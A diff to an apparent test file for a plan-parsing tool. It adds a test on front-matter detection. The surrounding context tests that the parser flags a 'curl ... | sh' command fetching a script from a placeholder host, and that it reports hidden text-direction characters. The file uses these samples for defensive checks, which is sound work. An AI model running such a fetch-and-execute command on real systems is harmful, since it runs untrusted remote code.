@@ -131,6 +131,12 @@ describe('parsing a plan', () => {
     expect(parse(fence('curl -s https://x.example/i.sh | sh')).steps[0]?.danger).toMatch(/from the network/);
   });
 
+  it('takes two rules with words between them for no front matter', () => {
+    const plan = parse('---\n\n**Steps**: see below\n\n- [ ] one\n\n---\n- [ ] two\n');
+    expect(plan.items.map(({ text }) => text)).toEqual(['one', 'two']);
+    expect(plan.diagnostics.filter(({ code }) => code === 'front-matter')).toEqual([]);
+  });
+
   it('shows invisible direction marks instead of hiding them', () => {
     expect(parse(fence('echo \u202eabc')).diagnostics).toContainEqual(
       expect.objectContaining({ code: 'hidden-characters', severity: 'error' }),
